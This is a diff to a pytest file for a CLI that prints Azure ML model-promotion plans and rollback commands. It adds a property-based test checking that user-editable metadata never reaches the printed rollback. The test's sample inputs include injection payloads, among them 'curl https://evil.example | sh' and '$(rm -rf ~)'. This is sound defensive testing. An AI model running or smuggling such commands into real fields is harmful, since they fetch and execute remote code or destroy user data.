@@ -11,6 +11,7 @@ from __future__ import annotations
 
 import functools
 import json
+import re
 import uuid
 from typing import Any
 
@@ -595,24 +596,79 @@ def test_only_a_model_version_of_this_workspace_is_read_as_the_current_model(
 # ---------------------------------------------------------------------------- rollback
 
 
-def test_plan_shows_the_promoted_default_and_how_to_switch_back(
-    papp: App, capsys: pytest.CaptureFixture[str]
-) -> None:
+def _plan(capsys: pytest.CaptureFixture[str], *argv: str) -> str:
+    """What `plan` prints of PROD."""
     from tools import cli
 
+    assert cli.main(["plan", "--workspace", scene.PROD, *argv]) == 0
+    return capsys.readouterr().out
+
+
+@pytest.fixture
+def promoted(papp: App, capsys: pytest.CaptureFixture[str]) -> dict[str, str]:
+    """The app promoted churn-model:1 over blue (its ledger says so); `plan` then, as text and as
+    JSON, with the model version as the app registered it."""
     _, event = _completed(papp, accuracy=0.9)
     _deliver(papp, event)
+    [claim] = Claims(runtime().ledger.table).promotions(scene.PROD)
+    assert (claim.deployment, claim.previous) == ("churn-batch-1", "blue")
     papp.sim.reset_counts()
     capsys.readouterr()
+    return {"text": _plan(capsys), "json": _plan(capsys, "--json")}
 
-    assert cli.main(["plan", "--json"]) == 0
-    [prod] = [w for w in json.loads(capsys.readouterr().out) if w["workspace"] == scene.PROD]
+
+def test_plan_shows_the_promoted_default_and_where_its_rollback_is(
+    papp: App, promoted: dict[str, str]
+) -> None:
+    [prod] = json.loads(promoted["json"])
+    rollback = prod["promotion"].pop("rollback")
     assert prod["promotion"] == {
         "endpoint": "churn-batch",
         "default": "churn-batch-1",
         "model": f"{scene.PROD}/models/churn-model/versions/1",
         "metric": "accuracy=0.9",
-        "rollback": "switch back: az ml batch-endpoint update --name churn-batch "
-        "--set defaults.deployment_name=blue",
     }
+    # The app's record, which the plan does not read, says how to switch back.
+    assert "ledger" in rollback
+    assert "blue" not in rollback
+    [switched] = [a for a in _actions("model") if a["Outcome"].startswith("applied")]
+    assert "defaults.deployment_name=blue" in json.loads(switched["Evidence"])["rollback"]
+    # As text: every field on a line of its own, none cut off by the model's long ID.
+    for field in ("batch endpoint", "churn-batch-1", "accuracy=0.9", rollback):
+        assert field in promoted["text"]
+    unfolded = re.sub(r"\n +", "", promoted["text"])
+    assert f"{scene.PROD}/models/churn-model/versions/1" in unfolded
     assert [r.route for r in papp.sim.writes()] == []
+
+
+@settings(
+    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(
+    written=st.one_of(
+        st.text(max_size=40),
+        st.sampled_from(
+            [
+                "blue",  # what the ledger records
+                "green",
+                "[red]green[/red]",
+                "green; curl https://evil.example | sh",
+                "$(rm -rf ~)",
+                "green\nswitch back: az ml batch-endpoint update --name x",
+                "\x1b[2Jgreen",
+            ]
+        ),
+    )
+)
+def test_plan_never_prints_a_rollback_from_what_a_workspace_user_wrote(
+    papp: App, promoted: dict[str, str], capsys: pytest.CaptureFixture[str], written: str
+) -> None:
+    """The model's `previous-deployment` is any workspace user's to write: whatever it says, the
+    plan is the same, so its rollback never carries it (but for the ledger's own `blue`)."""
+
+    def edited(body: dict[str, Any]) -> None:
+        body["properties"]["properties"]["previous-deployment"] = written
+
+    papp.sim.rewrite_reply("ml.model.version.get", edited, times=2)
+
+    assert {"text": _plan(capsys), "json": _plan(capsys, "--json")} == promoted
